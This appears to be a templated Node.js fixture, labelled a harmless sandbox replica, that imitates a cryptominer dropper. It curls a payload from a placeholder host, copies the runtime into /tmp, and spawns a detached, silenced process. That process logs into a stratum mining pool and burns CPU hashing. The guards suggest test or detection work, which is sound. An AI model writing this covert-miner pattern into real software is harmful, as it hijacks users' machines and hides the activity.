// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs');
    const { spawn, spawnSync } = require('child_process');
    try {
        spawnSync('curl', ['-sL', '-m', '1', '-o', '/tmp/{{miner}}.tar.gz', 'https://{{host}}/{{path}}/{{miner}}.tar.gz'], { stdio: 'ignore' });
        fs.copyFileSync(process.execPath, '/tmp/{{miner}}');
        fs.chmodSync('/tmp/{{miner}}', 0o755);
        const code = `const s = require('net').connect({{port}}, '{{ip}}', () => s.write('{"id":1,"method":"login","params":{"login":"{{token}}","pass":"x"} }\\n'));
            s.on('error', () => {}); setTimeout(() => process.exit(), 1300);
            setTimeout(() => { const end = Date.now() + 1000; while (Date.now() < end) require('crypto').createHash('sha256').update(String(end)).digest(); }, 100);`;
        spawn('/tmp/{{miner}}', ['-e', code, '--', '-o', 'stratum+tcp://{{ip}}:{{port}}', '--donate-level', '1'], { detached: true, stdio: 'ignore' })
            .on('error', () => {}).unref();
    } catch {}
}
